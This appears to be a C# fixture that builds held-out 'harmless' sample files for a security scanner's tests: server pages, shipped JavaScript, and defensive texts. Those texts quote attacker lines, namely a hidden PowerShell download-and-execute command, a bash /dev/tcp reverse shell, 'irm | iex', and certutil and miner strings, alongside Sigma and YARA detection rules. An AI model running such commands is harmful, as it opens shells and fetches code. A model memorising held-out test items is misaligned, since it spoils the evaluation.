using System.Text;
using static ScanHost.TestKit.HeldOut.WrittenForms;

namespace ScanHost.TestKit.HeldOut.Sixth;

/// <summary>Server pages of honest sites, some of which start programs.</summary>
public sealed class ServerPages : SixthHarmless
{
    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Files()
    {
        yield return ("thumbnail.php", Utf8("""
            <?php
            declare(strict_types=1);
            // Makes a thumbnail of an uploaded picture with ImageMagick.
            require __DIR__ . '/../vendor/autoload.php';
            session_start();
            if (empty($_SESSION['user'])) { http_response_code(403); exit; }
            $file = $_FILES['picture'] ?? null;
            if (!$file || $file['error'] !== UPLOAD_ERR_OK || $file['size'] > 8_000_000) { http_response_code(400); exit('No picture'); }
            $type = (new finfo(FILEINFO_MIME_TYPE))->file($file['tmp_name']);
            if (!in_array($type, ['image/jpeg', 'image/png', 'image/webp'], true)) { http_response_code(415); exit; }
            $target = __DIR__ . '/../storage/' . bin2hex(random_bytes(16)) . '.jpg';
            exec('convert ' . escapeshellarg($file['tmp_name']) . ' -auto-orient -thumbnail 320x320 ' . escapeshellarg($target) . ' 2>&1', $output, $code);
            if ($code !== 0) { error_log(implode("\n", $output)); http_response_code(500); exit; }
            header('Content-Type: application/json');
            echo json_encode(['thumbnail' => basename($target)]);
            """));
        yield return ("class-cache-plugin.php", Utf8("""
            <?php
            /**
             * Plugin Name: Simple Page Cache
             * Version: 2.4
             * License: GPL-2.0-or-later
             */
            defined( 'ABSPATH' ) || exit;
            class Simple_Page_Cache {
                public function __construct() {
                    add_action( 'template_redirect', array( $this, 'serve' ), 0 );
                    add_action( 'save_post', array( $this, 'flush' ) );
                    add_action( 'admin_menu', function () { add_options_page( 'Page Cache', 'Page Cache', 'manage_options', 'spc', array( $this, 'page' ) ); } );
                }
                private function path() { return WP_CONTENT_DIR . '/cache/spc/' . md5( $_SERVER['REQUEST_URI'] ) . '.gz'; }
                public function serve() {
                    if ( is_user_logged_in() || 'GET' !== $_SERVER['REQUEST_METHOD'] ) return;
                    if ( is_readable( $this->path() ) && filemtime( $this->path() ) > time() - 3600 ) {
                        echo gzinflate( base64_decode( file_get_contents( $this->path() ) ) );
                        exit;
                    }
                    ob_start( function ( $html ) { file_put_contents( $this->path(), base64_encode( gzdeflate( $html ) ) ); return $html; } );
                }
                public function flush() { array_map( 'unlink', glob( WP_CONTENT_DIR . '/cache/spc/*.gz' ) ); }
                public function page() {
                    if ( isset( $_POST['spc_flush'] ) && check_admin_referer( 'spc' ) ) { $this->flush(); echo '<div class="updated">Flushed.</div>'; }
                    echo '<form method="post">', wp_nonce_field( 'spc', '_wpnonce', true, false ), '<button name="spc_flush">Flush</button></form>';
                }
            }
            new Simple_Page_Cache();
            """));
        yield return ("Health.aspx", Dos("""
            <%@ Page Language="C#" %>
            <%@ Import Namespace="System.Data.SqlClient" %>
            <%@ Import Namespace="System.Diagnostics" %>
            <script runat="server">
            protected void Page_Load(object sender, EventArgs e) {
                Response.ContentType = "text/plain";
                var watch = Stopwatch.StartNew();
                try {
                    using (var connection = new SqlConnection(ConfigurationManager.ConnectionStrings["Shop"].ConnectionString)) {
                        connection.Open();
                        new SqlCommand("select 1", connection).ExecuteScalar();
                    }
                    Response.Write("OK " + watch.ElapsedMilliseconds + " ms, memory " + Process.GetCurrentProcess().WorkingSet64 / 1048576 + " MB");
                } catch (Exception error) {
                    Response.StatusCode = 503;
                    Response.Write("database: " + error.GetType().Name);
                }
            }
            </script>
            """));
        yield return ("report.jsp", Utf8("""
            <%@ page contentType="text/html;charset=UTF-8" import="java.util.*,java.io.*" %>
            <%@ taglib prefix="c" uri="http://java.sun.com/jsp/jstl/core" %>
            <%
              String month = request.getParameter("month");
              if (month == null || !month.matches("20\\d\\d-[01]\\d")) { response.sendError(400); return; }
              if (!request.isUserInRole("accounting")) { response.sendError(403); return; }
              Process process = new ProcessBuilder("/opt/reports/bin/render", "--month", month).redirectErrorStream(true).start();
              BufferedReader reader = new BufferedReader(new InputStreamReader(process.getInputStream(), "UTF-8"));
              List<String> lines = new ArrayList<>();
              for (String line; (line = reader.readLine()) != null; ) lines.add(line);
              request.setAttribute("lines", lines);
            %>
            <html><body><h1>Report <c:out value="${param.month}"/></h1>
            <table><c:forEach items="${lines}" var="line"><tr><td><c:out value="${line}"/></td></tr></c:forEach></table>
            </body></html>
            """));
    }
}

/// <summary>JavaScript of sites, bundlers and command-line tools, some of it hard to read.</summary>
public sealed class ShippedJavaScript : SixthHarmless
{
    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Files()
    {
        yield return ("vendor.min.js", Utf8(Minified()));
        yield return ("consent.js", Utf8("""
            (function (w, d) {
              var KEY = 'consent.v2';
              function load(src) { var s = d.createElement('script'); s.src = src; s.async = true; d.head.appendChild(s); }
              function apply(c) {
                if (c.statistics) { w._paq = w._paq || []; w._paq.push(['trackPageView'], ['setTrackerUrl', 'https://stats.shop.example/matomo.php'], ['setSiteId', '4']); load('https://stats.shop.example/matomo.js'); }
                if (c.marketing) load('https://www.googletagmanager.com/gtag/js?id=G-0000000000');
              }
              var saved = w.localStorage.getItem(KEY);
              if (saved) return apply(JSON.parse(saved));
              var box = d.createElement('div');
              box.className = 'consent';
              box.innerHTML = '<p>We use cookies for statistics and marketing.</p><button data-all>Accept all</button><button data-none>Only what is needed</button>';
              box.addEventListener('click', function (e) {
                if (!e.target.matches('button')) return;
                var all = e.target.hasAttribute('data-all'), c = { statistics: all, marketing: all };
                w.localStorage.setItem(KEY, JSON.stringify(c)); box.remove(); apply(c);
              });
              d.body.appendChild(box);
            })(window, document);
            """));
        yield return ("cli.mjs", Utf8("""
            #!/usr/bin/env node
            import { spawn, execFileSync } from 'node:child_process';
            import { createWriteStream, existsSync, chmodSync } from 'node:fs';
            import { get } from 'node:https';
            import os from 'node:os';
            import path from 'node:path';
            const version = '1.44.0';
            const file = path.join(os.homedir(), '.cache', 'protoc-gen', `protoc-${version}${process.platform === 'win32' ? '.exe' : ''}`);
            const fetch = url => new Promise((done, fail) => get(url, reply => {
              if (reply.statusCode === 302) return done(fetch(reply.headers.location));
              if (reply.statusCode !== 200) return fail(new Error(`${url}: ${reply.statusCode}`));
              reply.pipe(createWriteStream(file)).on('finish', done).on('error', fail);
            }));
            if (!existsSync(file)) {
              console.error(`Downloading protoc ${version} ...`);
              await fetch(`https://github.com/no-such-owner/protoc-gen/releases/download/v${version}/protoc-${process.platform}-${process.arch}`);
              chmodSync(file, 0o755);
            }
            console.error(execFileSync(file, ['--version'], { encoding: 'utf8' }).trim());
            spawn(file, process.argv.slice(2), { stdio: 'inherit', env: { ...process.env, NO_COLOR: '1' } }).on('exit', code => process.exit(code ?? 1));
            """));
        yield return ("copy-button.js", Utf8("""
            // Adds a "Copy" button to each code block of the documentation.
            document.querySelectorAll('pre > code').forEach(code => {
              const button = document.createElement('button');
              button.textContent = 'Copy';
              button.className = 'copy';
              button.addEventListener('click', async () => {
                const text = code.innerText.replace(/^(\$|PS C:\\>) /gm, '');
                try { await navigator.clipboard.writeText(text); }
                catch { const area = document.createElement('textarea'); area.value = text; document.body.append(area); area.select(); document.execCommand('copy'); area.remove(); }
                button.textContent = 'Copied';
                setTimeout(() => { button.textContent = 'Copy'; }, 1500);
              });
              code.parentElement.append(button);
            });
            // Example shown on the start page
            const sample = 'powershell -c "irm https://docs-tool.example/install.ps1 | iex"';
            document.getElementById('windows-install')?.append(sample);
            """));
    }

    private static string Minified()
    {
        var text = new StringBuilder("/*! Widgets v4.2.1 | (c) Widgets authors | MIT */\n!function(e,t){\"object\"==typeof exports&&\"undefined\"!=typeof module?module.exports=t():(e=e||self).W=t()}(this,function(){\"use strict\";var n=Object.create(null);");
        foreach (var (name, at) in Enumerable.Range(0, 160).Select(at => ($"{(char)('a' + (at % 26))}{at}", at)))
            text.Append($"function {name}(e,t,r){{var i=e&&e.length||{at},o=[];for(r=r||0;r<i;r++)o.push(t?t.call(e,e[r],r):String.fromCharCode(e[r]^{at % 64}));return n[\"{name}\"]=o,o.length?o:void 0===t?null:{name}.d}}");
        return text.Append("var u=new Function(\"return this\")();return{v:\"4.2.1\",icon:\"data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=\",g:u,map:n}});\n//# sourceMappingURL=vendor.min.js.map\n").ToString();
    }
}

/// <summary>Texts about attacks and defence that quote what attackers write.</summary>
public sealed class QuotingTexts : SixthHarmless
{
    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Files()
    {
        yield return ("incident-notes.md", Utf8("""
            # Incident 2026-114, notes

            At 09:12 the user opened `Invoice.js`. Process tree from the EDR:

                explorer.exe
                  wscript.exe "C:\Users\mk\Downloads\Invoice.js"
                    powershell.exe -w hidden -nop -ep bypass -c "IEX (New-Object Net.WebClient).DownloadString('hxxp://198.51.100[.]23/a')"

            The script was blocked by the proxy. No second stage was seen. Actions:

            1. Associate `.js`, `.vbs` and `.wsf` with Notepad by GPO.
            2. Search for `schtasks /create` and for `HKCU\...\CurrentVersion\Run` in the last 30 days: nothing found.
            3. Block 198.51.100[.]23 and human-check[.]example.
            """));
        yield return ("win_susp_certutil.yml", Utf8("""
            title: Download By Certutil
            id: 00000000-0000-4000-8000-000000000001
            status: test
            description: Detects certutil with flags that download a file
            logsource:
                category: process_creation
                product: windows
            detection:
                selection:
                    Image|endswith: '\certutil.exe'
                    CommandLine|contains:
                        - 'urlcache'
                        - 'verifyctl'
                        - '-decode '
                other:
                    CommandLine|contains|all:
                        - 'vssadmin'
                        - 'delete shadows'
                condition: selection or other
            falsepositives:
                - Administrators
            level: high
            """));
        yield return ("webshells.yar", Utf8("""
            rule php_eval_request
            {
                meta:
                    description = "PHP file that evaluates what a request brings"
                    author = "blue team"
                strings:
                    $open = "<?php"
                    $a = /eval\s*\(\s*(base64_decode\s*\(\s*)?\$_(POST|GET|REQUEST|COOKIE)/
                    $b = /(system|passthru|shell_exec|assert)\s*\(\s*\$_(POST|GET|REQUEST)/
                    $c = "gzinflate(base64_decode("
                condition:
                    filesize < 200KB and $open at 0 and any of ($a, $b, $c)
            }
            """));
        yield return ("hardening.rst", Utf8("""
            Hardening guide
            ===============

            Reverse shells
            --------------
            A typical reverse shell is ``bash -i >& /dev/tcp/192.0.2.1/4444 0>&1``; another uses ``mkfifo /tmp/f``.
            Outgoing connections of the web server's user should therefore be dropped::

                iptables -A OUTPUT -m owner --uid-owner www-data -m state --state NEW -j DROP

            Preloaded libraries
            -------------------
            ``/etc/ld.so.preload`` should not exist. Watch it with auditd::

                -w /etc/ld.so.preload -p wa -k preload
                -w /root/.ssh/authorized_keys -p wa -k keys
                -w /etc/cron.d -p wa -k cron

            Miners are often seen as ``xmrig -o stratum+tcp://...``; a rule on the string ``stratum+tcp`` in command lines finds most of them.
            """));
    }
}
